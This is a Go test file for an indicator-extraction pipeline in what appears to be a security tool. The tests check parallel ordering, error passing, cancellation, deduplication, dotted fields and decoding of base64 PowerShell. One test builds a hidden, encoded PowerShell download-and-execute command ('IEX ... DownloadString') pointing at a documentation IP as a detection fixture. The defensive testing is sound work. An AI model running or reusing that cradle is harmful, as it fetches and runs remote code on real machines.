package pipeline

import (
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/hunchsec/hunch/record"
	"github.com/hunchsec/hunch/unpack"
)

func utf16leBase64(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func textRecords(lines ...string) []record.Record {
	out := make([]record.Record, len(lines))
	for i, l := range lines {
		out[i] = record.New(record.Field{Name: "_raw", Value: record.String(l)})
		out[i].Meta = record.Meta{Source: "t", Line: i + 1, N: i + 1}
	}
	return out
}

func TestExtractOrderAndParallelism(t *testing.T) {
	var lines []string
	for i := range 5000 {
		lines = append(lines, fmt.Sprintf("event %d from 198.51.100.%d to 203.0.113.%d", i, i%256, (i*7)%256))
	}
	recs := textRecords(lines...)
	want := collect(t, Extract(context.Background(), seq(recs...), ExtractOptions{Workers: 1}))
	if len(want) != 2*len(lines) {
		t.Fatalf("sequential: %d matches, want %d", len(want), 2*len(lines))
	}
	for _, workers := range []int{2, 3, 8} {
		got := collect(t, Extract(context.Background(), seq(recs...), ExtractOptions{Workers: workers}))
		if len(got) != len(want) {
			t.Fatalf("workers=%d: %d matches, want %d", workers, len(got), len(want))
		}
		for i := range got {
			if !got[i].Equal(want[i]) {
				t.Fatalf("workers=%d: match %d differs:\n got %s\nwant %s", workers, i, got[i].AppendJSON(nil), want[i].AppendJSON(nil))
			}
		}
	}
}

func TestExtractPassesParseErrorsInPlace(t *testing.T) {
	pe := &record.ParseError{Source: "f", Line: 2, Reason: "bad"}
	in := func(yield func(record.Record, error) bool) {
		recs := textRecords("a 198.51.100.1", "", "c 198.51.100.3")
		_ = yield(recs[0], nil) && yield(record.Record{}, pe) && yield(recs[2], nil)
	}
	for _, w := range []int{1, 2} {
		var seq []string
		for r, err := range Extract(context.Background(), in, ExtractOptions{Workers: w}) {
			if err != nil {
				seq = append(seq, "err:"+err.Error())
				continue
			}
			seq = append(seq, str(r, FieldValue))
		}
		want := "198.51.100.1|err:f:2: bad|198.51.100.3"
		if got := strings.Join(seq, "|"); got != want {
			t.Errorf("workers=%d: %s, want %s", w, got, want)
		}
	}
}

func TestExtractEarlyStopAndCancel(t *testing.T) {
	var lines []string
	for i := range 3000 {
		lines = append(lines, fmt.Sprintf("198.51.100.%d", i%256))
	}
	recs := textRecords(lines...)
	n := 0
	for _, err := range Extract(context.Background(), seq(recs...), ExtractOptions{Workers: 4}) {
		if err != nil {
			t.Fatal(err)
		}
		n++
		if n == 10 {
			break
		}
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	var gotErr error
	for _, err := range Extract(ctx, seq(recs...), ExtractOptions{Workers: 4}) {
		if err != nil {
			gotErr = err
			break
		}
	}
	if !errors.Is(gotErr, context.Canceled) {
		t.Errorf("canceled context: got %v, want context.Canceled", gotErr)
	}
}

func TestExtractUnpackMarksDecoded(t *testing.T) {
	script := "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1'); $c='203.0.113.5'"
	cmd := "powershell.exe -nop -w hidden -enc " + utf16leBase64(script) + " # from 203.0.113.5"
	rec := record.New(
		record.Field{Name: "Computer", Value: record.String("WKS-001")},
		record.Field{Name: "CommandLine", Value: record.String(cmd)},
	)
	rec.Meta = record.Meta{Source: "ev", N: 7}
	got := collect(t, Extract(context.Background(), seq(rec), ExtractOptions{Fields: []string{"CommandLine"}, Keep: true, Unique: UniqueRecord, Unpacker: mustUnpacker(t)}))
	byValue := map[string]record.Record{}
	for _, m := range got {
		byValue[str(m, FieldType)+" "+str(m, FieldValue)] = m
	}
	u, ok := byValue["url http://198.51.100.23/a.ps1"]
	if !ok {
		t.Fatalf("decoded URL not found; got %v", keys(byValue))
	}
	if str(u, FieldVia) != "decoded" || !strings.HasPrefix(str(u, FieldEncoding), "base64") {
		t.Errorf("decoded URL: via=%q encoding=%q", str(u, FieldVia), str(u, FieldEncoding))
	}
	if str(u, "Computer") != "WKS-001" || str(u, FieldRecord) != "7" || str(u, FieldField) != "CommandLine" {
		t.Errorf("source fields not kept: %s", u.AppendJSON(nil))
	}
	ip, ok := byValue["ipv4 203.0.113.5"]
	if !ok || str(ip, FieldVia) != "" {
		t.Errorf("plain IP should be found in plain text (via empty): %v", ok)
	}
	n := 0
	for _, m := range got {
		if str(m, FieldValue) == "203.0.113.5" {
			n++
		}
	}
	if n != 1 {
		t.Errorf("IP visible in plain text and in decoded text reported %d times, want 1", n)
	}
}

func TestUniqueGlobalAndLimit(t *testing.T) {
	recs := textRecords("198.51.100.1 198.51.100.1", "198.51.100.1 198.51.100.2", "198.51.100.3 198.51.100.2 198.51.100.4")
	var vals []string
	var limitErrs int
	for r, err := range Extract(context.Background(), seq(recs...), ExtractOptions{Unique: UniqueGlobal, MaxUnique: 2}) {
		if errors.Is(err, ErrUniqueLimit) {
			limitErrs++
			continue
		}
		if err != nil {
			t.Fatal(err)
		}
		vals = append(vals, str(r, FieldValue))
	}
	if limitErrs != 1 {
		t.Errorf("limit reported %d times, want 1", limitErrs)
	}
	if got, want := strings.Join(vals, " "), "198.51.100.1 198.51.100.2 198.51.100.3 198.51.100.4"; got != want {
		t.Errorf("global unique: %s, want %s", got, want)
	}
	// Per record: repeats within a record dropped, across records kept.
	vals = vals[:0]
	for _, r := range collect(t, Extract(context.Background(), seq(recs[:2]...), ExtractOptions{Unique: UniqueRecord})) {
		vals = append(vals, str(r, FieldValue))
	}
	if got, want := strings.Join(vals, " "), "198.51.100.1 198.51.100.1 198.51.100.2"; got != want {
		t.Errorf("record unique: %s, want %s", got, want)
	}
}

func TestUnpackFullDecodedOncePerField(t *testing.T) {
	a := utf16leBase64("Invoke-WebRequest -Uri https://cdn.example.net/x")
	b := utf16leBase64("Start-Process calc.exe; Write-Output 198.51.100.9")
	rec := record.New(record.Field{Name: "CommandLine", Value: record.String("powershell -enc " + a + " ; powershell -e " + b)})
	blobs := collect(t, Unpack(context.Background(), seq(rec), UnpackOptions{Unpacker: mustUnpacker(t)}))
	if len(blobs) < 2 {
		t.Fatalf("%d blobs, want ≥ 2", len(blobs))
	}
	full := str(blobs[0], FieldFullDecoded)
	if !strings.Contains(full, "https://cdn.example.net/x") || !strings.Contains(full, "198.51.100.9") {
		t.Errorf("full_decoded lacks the decoded texts: %q", full)
	}
	for _, bl := range blobs[1:] {
		if str(bl, FieldFullDecoded) != "" {
			t.Errorf("full_decoded repeated on a later blob record")
		}
	}
	// The two-step pipeline finds what the one-pass form finds.
	two := collect(t, Extract(context.Background(), seq(blobs...), ExtractOptions{Fields: []string{FieldFullDecoded}}))
	var vals []string
	for _, m := range two {
		vals = append(vals, str(m, FieldValue))
	}
	joined := strings.Join(vals, " ")
	for _, want := range []string{"https://cdn.example.net/x", "198.51.100.9"} {
		if !strings.Contains(joined, want) {
			t.Errorf("unpack | extract -f full_decoded missed %s: %s", want, joined)
		}
	}
}

func TestLookupDottedFields(t *testing.T) {
	inner := record.New(record.Field{Name: "CommandLine", Value: record.String("ping 198.51.100.77")})
	rec := record.New(record.Field{Name: "winlog", Value: record.Object(record.New(record.Field{Name: "event_data", Value: record.Object(inner)}))})
	got := collect(t, Extract(context.Background(), seq(rec), ExtractOptions{Fields: []string{"winlog.event_data.CommandLine"}}))
	if len(got) != 1 || str(got[0], FieldValue) != "198.51.100.77" || str(got[0], FieldField) != "winlog.event_data.CommandLine" {
		t.Fatalf("dotted field: %v", got)
	}
	// Without -f every string is scanned, nested ones included.
	got = collect(t, Extract(context.Background(), seq(rec), ExtractOptions{}))
	if len(got) != 1 || str(got[0], FieldField) != "winlog.event_data.CommandLine" {
		t.Fatalf("all fields: %v", got)
	}
}

func keys(m map[string]record.Record) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

func mustUnpacker(t *testing.T) *unpack.Unpacker {
	t.Helper()
	u, err := unpack.New(unpack.DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	return u
}
